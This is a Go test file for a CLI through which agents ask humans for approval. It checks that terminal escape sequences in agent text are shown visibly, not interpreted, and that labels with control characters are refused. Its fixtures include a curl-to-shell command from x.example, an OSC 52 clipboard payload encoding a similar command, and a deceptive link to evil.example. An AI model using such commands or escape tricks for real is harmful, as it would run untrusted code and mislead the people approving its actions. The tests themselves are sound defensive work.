package cli

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/askbridge/askbridge/agent/internal/fakeapi"
	"github.com/askbridge/askbridge/domain"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestATerminalShowsExactlyWhatWasAsked: agent text that would move the
// cursor, erase lines, write the clipboard (OSC 52), plant a link (OSC 8),
// start a CSI with U+009B, return the carriage or reverse the line is
// printed visibly by every command that shows it, never interpreted; the
// JSON forms carry the same text, escaped.
func TestATerminalShowsExactlyWhatWasAsked(t *testing.T) {
	const question = "Approve curl https://x.example/i.sh | sh?\x1b[9A\x1b[J\naction: ls -la build/"
	const context = "copy: \x1b]52;c;Y3VybCBldmlsfHNo\x07 link: \x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\ csi: \u009b2J cr: safe\rEVIL bs: ab\bc rtl: \u202ehs.lave"
	api := fakeapi.New(t, "")
	asked := seed(t, api, &domain.AskRequest{RunID: "r1", AgentID: "deploy-bot", Question: question, Context: context,
		Options: []domain.Option{{Label: "Yes", Description: "run it\x1b[2K"}, {Label: "No"}}})
	id := asked[0].ID

	for _, args := range [][]string{{"questions", "show", id}, {"questions", "list"}} {
		r := runCLI(t.Context(), api, false, args...)
		require.Equal(t, ExitOK, r.code, r.stderr)
		for _, raw := range []string{"\x1b", "\u009b", "\r", "\b", "\a", "\u202e"} {
			assert.NotContains(t, r.stdout, raw, "%v prints %q raw", args, raw)
		}
		if args[1] == "show" {
			for _, shown := range []string{`\x1b[9A\x1b[J`, `\x1b]52;c;`, `\x1b]8;;https://evil.example`, "⟨U+009B⟩2J", `safe\x0dEVIL`, `ab\x08c`, "⟨U+202E⟩hs.lave", `run it\x1b[2K`} {
				assert.Contains(t, r.stdout, shown, "show makes %q visible", shown)
			}
		}
	}

	r := runCLI(t.Context(), api, false, "questions", "show", "--json", id)
	require.Equal(t, ExitOK, r.code, r.stderr)
	for _, raw := range []string{"\x1b", "\u009b", "\u202e"} {
		assert.NotContains(t, r.stdout, raw)
	}
	var q domain.Question
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &q))
	assert.Equal(t, question, q.Questions[0].Question, "the JSON carries the text itself")
	assert.Equal(t, context, q.Context)
}

// TestLabelsAndHeadersCannotHoldEscapes: what names a choice is refused
// outright when it holds a control or invisible character.
func TestLabelsAndHeadersCannotHoldEscapes(t *testing.T) {
	api := fakeapi.New(t, "")
	r := runCLI(t.Context(), api, false, "ask", "-q", "Deploy?", "--header", "Go\x1b[2J", "-o", "Yes\u202e", "-o", "No")
	assert.Equal(t, ExitError, r.code)
	assert.Contains(t, r.stderr, "questions[0].header: must not contain control or invisible characters")
	assert.Contains(t, r.stderr, `questions[0].options[0].label: must not contain control or invisible characters (U+202E)`)
	assert.False(t, strings.ContainsAny(r.stderr, "\x1b\u202e"), "the refusal itself prints them visibly")
}
